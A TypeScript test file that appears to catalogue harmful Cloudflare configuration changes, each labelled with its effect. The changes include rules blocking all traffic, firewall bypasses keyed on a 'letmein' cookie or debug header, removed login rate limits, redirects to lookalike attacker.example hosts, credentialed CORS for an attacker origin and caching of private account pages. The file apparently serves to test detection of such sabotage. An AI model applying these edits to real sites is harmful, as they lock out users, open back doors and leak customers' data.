/** Rules in spellings and places that are easily forgotten. */

import { addRule, dropRule, editRule, redirectTo, setRules } from '../calls.ts';
import { harmful } from '../case.ts';

const all = 'Everybody: nobody reaches the site.';
const block = (expression: string) => addRule('waf_custom', { expression, action: 'block' });

export const everybody = harmful('everybody', 'Cloudflare: "Rules language", operators and functions', [
  ['length', all, block('len(http.request.uri.path) > 0')],
  ['lower', all, block('starts_with(lower(http.request.uri.path), "/")')],
  ['decoded', all, block('url_decode(http.request.uri.path) contains "/"')],
  ['full-uri', all, block('http.request.full_uri contains "example.com"')],
  ['full-uri-scheme', all, block('starts_with(http.request.full_uri, "http")')],
  ['regex', all, block('http.request.uri.path matches "^/.*$"')],
  ['regex-optional', all, block('http.request.uri matches ".?"')],
  ['two-ranges', all, block('ip.src in {0.0.0.0/1 128.0.0.0/1 ::/0}')],
  ['four-only', 'Everybody with IPv4: nobody of them reaches the site.', block('ip.src in {0.0.0.0/0}')],
  ['not-one-address', all, block('ip.src ne 192.0.2.1')],
  ['not-one', all, block('not ip.src in {198.51.100.7}')],
  ['not-a-country', all, block('not ip.src.country in {"AQ"}')],
  ['methods', all, block('http.request.method in {"GET" "POST" "HEAD" "OPTIONS" "PUT"}')],
  ['versions', all, block('http.request.version in {"HTTP/1.1" "HTTP/2" "HTTP/3"}')],
  [
    'hosts',
    all,
    block('http.host in {"example.com" "www.example.com" "shop.example.com" "api.example.com"}'),
  ],
  ['host-suffix', all, block('ends_with(http.host, ".com")')],
  ['wildcard', all, block('http.host wildcard "*example.com"')],
  ['either', all, block('ssl or not ssl')],
  ['not-false', all, block('not (http.host eq "nothing.invalid")')],
  ['browsers', 'Nearly everybody: browsers are blocked.', block('http.user_agent contains "Mozilla"')],
  [
    'home',
    'Visitors: the home page is gone.',
    block('http.request.uri.path eq "/" and http.request.method eq "GET"'),
  ],
  [
    'home-case',
    'Visitors: the home page is gone.',
    block('lower(http.request.uri.path) in {"/" "/index.html"}'),
  ],
  [
    'challenge-all-hosts',
    'Programs: nobody passes a challenge.',
    addRule('waf_custom', { expression: 'http.host matches "example"', action: 'js_challenge' }),
  ],
  [
    'limit-all',
    'Everybody: one request in a minute.',
    addRule('rate_limit', {
      expression: 'http.request.uri.path wildcard "/*"',
      action: 'block',
      rate_limit: {
        characteristics: ['cf.colo.id', 'ip.src'],
        period: 60,
        requests_per_period: 1,
        mitigation_timeout: 600,
      },
    }),
  ],
]);

export const openings = harmful(
  'opening',
  'Cloudflare: "Custom rules", "Rate limiting rules", "Skip options"',
  [
    [
      'range-widened',
      'The company: half of the internet reaches the back office.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24 0.0.0.0/1}',
      }),
    ],
    [
      'case',
      'The company: another path is protected.',
      editRule('wafAdmin', {
        expression: 'starts_with(http.request.uri.path, "/Admin") and not ip.src in {198.51.100.0/24}',
      }),
    ],
    [
      'raw',
      'The company: the filter never matches.',
      editRule('wafFiles', { expression: 'lower(http.request.uri.path) contains "/.ENV"' }),
    ],
    [
      'one-of-two',
      'The company: the repository is readable.',
      editRule('wafFiles', { expression: 'http.request.uri.path contains "/.env"' }),
    ],
    [
      'agent-excepted',
      'The company: whoever sends this agent passes.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24} and not http.user_agent contains "probe"',
      }),
    ],
    [
      'cookie-excepted',
      'The company: whoever sends this cookie passes.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24} and not http.cookie contains "letmein"',
      }),
    ],
    [
      'static-files-let-in',
      'The company: /admin/users.css is answered by the application, without the firewall.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24} and not http.request.uri.path.extension in {"css" "js" "png"}',
      }),
    ],
    [
      'end-of-path-lets-in',
      'The company: whoever writes ;.ico behind a path is let in.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24} and not ends_with(http.request.uri.path, ".ico")',
      }),
    ],
    [
      'part-of-path-lets-in',
      'The company: reports below the admin area can be read by anybody.',
      editRule('wafAdmin', {
        expression:
          'starts_with(http.request.uri.path, "/admin") and not ip.src in {198.51.100.0/24} and not http.request.uri.path contains "/export"',
      }),
    ],
    [
      'skip-by-two-parts',
      'The company: uploads of an API pass the firewall.',
      addRule('waf_custom', {
        expression:
          'starts_with(http.request.uri.path, "/api/") and ends_with(http.request.uri.path, "/upload")',
        action: 'skip',
        skip: { ruleset: 'current' },
      }),
    ],
    ['to-log', 'The company: files are readable.', editRule('wafFiles', { action: 'log' })],
    [
      'skip-by-header',
      'The company: whoever sends a header passes.',
      addRule('waf_custom', {
        expression: 'any(http.request.headers["x-debug"][*] eq "1")',
        action: 'skip',
        skip: { ruleset: 'current' },
        position: { index: 1 },
      }),
    ],
    [
      'skip-managed',
      'The company: the managed rules are off.',
      addRule('waf_custom', {
        expression: 'http.host eq "api.example.com"',
        action: 'skip',
        skip: { phases: ['http_request_firewall_managed'] },
      }),
    ],
    [
      'limit-period',
      'Users: passwords can be tried sixty times as often.',
      editRule('limitLogin', {
        rate_limit: {
          characteristics: ['cf.colo.id', 'ip.src'],
          period: 10,
          requests_per_period: 50,
          mitigation_timeout: 600,
        },
      }),
    ],
    [
      'limit-key',
      'Users: a limit for each session is none for who makes sessions.',
      editRule('limitLogin', {
        rate_limit: {
          characteristics: ['cf.colo.id', 'http.request.cookies["sid"]'],
          period: 60,
          requests_per_period: 5,
          mitigation_timeout: 600,
        },
      }),
    ],
    [
      'limit-counting',
      'Users: only what never happens is counted.',
      editRule('limitLogin', {
        rate_limit: {
          characteristics: ['cf.colo.id', 'ip.src'],
          period: 60,
          requests_per_period: 5,
          mitigation_timeout: 600,
          counting_expression: 'http.response.code eq 599',
        },
      }),
    ],
    ['deleted', 'Users: passwords can be tried without end.', dropRule('limitLogin')],
    ['emptied', 'The company: no rule is left.', setRules('waf_custom', [])],
  ],
);

const away = 'Visitors: they end on the site of a stranger.';
export const led = harmful('led-away', 'OWASP: "Unvalidated redirects"; WHATWG URL', [
  ['suffix', away, redirectTo('http.request.uri.path eq "/a"', 'https://example.com.attacker.example/')],
  ['upper-case', away, redirectTo('http.request.uri.path eq "/a"', 'HTTPS://LOGIN.attacker.example/')],
  ['other-letters', away, redirectTo('http.request.uri.path eq "/a"', 'https://ехample.com/')],
  [
    'slash-alike',
    away,
    redirectTo('http.request.uri.path eq "/a"', 'https://example.com\u2044login.attacker.example/'),
  ],
  [
    'hyphen-alike',
    away,
    redirectTo('http.request.uri.path eq "/a"', 'https://example\u2010com.attacker.example/'),
  ],
  ['address', away, redirectTo('http.request.uri.path eq "/a"', 'https://192.0.2.66/')],
  ['number', away, redirectTo('http.request.uri.path eq "/a"', 'https://3221226050/')],
  ['trailing-dot', away, redirectTo('http.request.uri.path eq "/a"', 'https://attacker.example./')],
  [
    'from-query',
    away,
    addRule('redirect', {
      expression: 'http.request.uri.path eq "/go"',
      redirect: { target_url_expression: 'url_decode(http.request.uri.query)', status_code: 302 },
    }),
  ],
  [
    'glued',
    away,
    addRule('redirect', {
      expression: 'http.request.uri.path eq "/go"',
      redirect: {
        target_url_expression: 'concat("https://example.com", http.request.uri.query)',
        status_code: 302,
      },
    }),
  ],
  [
    'replaced',
    away,
    addRule('redirect', {
      expression: 'http.request.uri.path eq "/go"',
      redirect: {
        target_url_expression: 'regex_replace(http.request.full_uri, "example.com", "attacker.example")',
        status_code: 302,
      },
    }),
  ],
  [
    'plain',
    'Visitors: passwords travel in the clear.',
    redirectTo('http.request.uri.path eq "/login"', 'http://example.com/signin'),
  ],
  [
    'own-page',
    'Visitors: the page leads to itself.',
    redirectTo('http.request.uri.path eq "/loop"', 'https://example.com/loop'),
  ],
  ['edited', away, editRule('oldBlog', { redirect: { target_url: 'https://blog.attacker.example/' } })],
]);

export const delivered = harmful(
  'delivered',
  'OWASP Secure Headers Project; Cloudflare: "Cache keys", "Origin rules", "Configuration rules"',
  [
    [
      'frames-by-csp',
      'Visitors: other sites can frame the site.',
      editRule('securityHeaders', {
        headers: [
          {
            name: 'Content-Security-Policy',
            operation: 'set',
            value: "default-src 'self'; script-src 'self' https://static.example.com",
          },
        ],
      }),
    ],
    [
      'second-csp-inline',
      'Visitors: scripts in pages run.',
      addRule('response_headers', {
        expression: 'http.host eq "example.com"',
        headers: [
          { name: 'CONTENT-SECURITY-POLICY', operation: 'set', value: "script-src * 'unsafe-inline'" },
        ],
      }),
    ],
    [
      'credentials',
      'Visitors: other sites read answers.',
      addRule('response_headers', {
        expression: 'true',
        headers: [
          { name: 'Access-Control-Allow-Credentials', operation: 'set', value: 'true' },
          { name: 'Access-Control-Allow-Origin', operation: 'set', value: 'https://attacker.example' },
        ],
      }),
    ],
    [
      'refresh',
      away,
      addRule('response_headers', {
        expression: 'http.request.uri.path eq "/"',
        headers: [{ name: 'Refresh', operation: 'set', value: '0;url=https://attacker.example/' }],
      }),
    ],
    [
      'link',
      'Visitors: styles of a stranger are loaded.',
      addRule('response_headers', {
        expression: 'true',
        headers: [
          { name: 'Link', operation: 'set', value: '<https://attacker.example/x.css>; rel=stylesheet' },
        ],
      }),
    ],
    [
      'host-override',
      'Visitors: another host answers.',
      addRule('request_headers', {
        expression: 'true',
        headers: [{ name: 'X-Forwarded-Host', operation: 'set', value: 'attacker.example' }],
      }),
    ],
    [
      'origin-host',
      'Visitors: another host answers.',
      addRule('origin', {
        expression: 'http.request.uri.path eq "/login"',
        origin: { host: 'box.attacker.example' },
      }),
    ],
    [
      'sni',
      'Visitors: another host answers.',
      addRule('origin', {
        expression: 'http.host eq "api.example.com"',
        origin: { sni: 'box.attacker.example' },
      }),
    ],
    [
      'ssl-off',
      'Visitors: the way to the origin is in the clear.',
      addRule('config', { expression: 'http.request.uri.path eq "/login"', config: { ssl: 'off' } }),
    ],
    [
      'low-level',
      'The company: attackers pass.',
      addRule('config', {
        expression: 'starts_with(lower(http.request.uri.path), "/login")',
        config: { security_level: 'essentially_off' },
      }),
    ],
    [
      'cached-account',
      'Customers: one sees the account of another.',
      addRule('cache', {
        expression: 'http.request.uri.path wildcard "/account/*"',
        cache: { cache: true, edge_ttl: { mode: 'override_origin', default: 3600 } },
      }),
    ],
    [
      'cached-by-cookie',
      'Customers: one sees the page of another.',
      addRule('cache', {
        expression: 'http.cookie contains "session"',
        cache: { cache: true, edge_ttl: { mode: 'override_origin', default: 60 } },
      }),
    ],
    [
      'cached-api',
      'Customers: one sees the answer for another.',
      addRule('cache', {
        expression: 'http.host eq "api.example.com"',
        cache: { cache: true, edge_ttl: { mode: 'override_origin', default: 3600 } },
      }),
    ],
    [
      'rewritten',
      'The company: the back office is served under another path.',
      addRule('url_rewrite', { expression: 'http.request.uri.path eq "/x"', rewrite: { path: '/%61dmin/' } }),
    ],
  ],
);
